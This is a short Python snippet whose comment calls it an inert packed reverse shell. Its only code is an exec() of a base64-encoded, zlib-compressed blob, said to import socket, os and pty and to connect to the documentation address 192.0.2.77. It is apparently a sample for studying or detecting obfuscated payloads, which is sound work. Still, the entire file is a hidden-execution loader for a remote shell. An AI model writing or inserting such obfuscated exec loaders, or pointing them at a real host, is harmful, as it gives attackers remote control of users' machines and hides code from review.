# An inert packed reverse shell, made by:
#   base64(zlib("import socket,os,pty ... 192.0.2.77 ..."))
import base64, zlib
exec(zlib.decompress(base64.b64decode(b'eNo1T8tqwzAQvOsrFp9WIDa2awgt9BCKCyGkgTr3kDprKlpLQrsh8d/X4HQuw7wO48cUs4LE/ofVQRQHSScj8PrwaCF8qM37afvRHt1/2h3edqfu+Nlu9tYICav6keNVsbJG8/RiYIZQH0PgXhGL6rmmkmparwsHTdM8WWv43nNSOHRtzjEvm3z2wtBNojy2d69YWjPEDMMFfAAsHVQOaruUo9DlmmoUGvwvh4jWzUVr5i8k6XwLWKy+fFjJd2HNH8mQSbo=')))
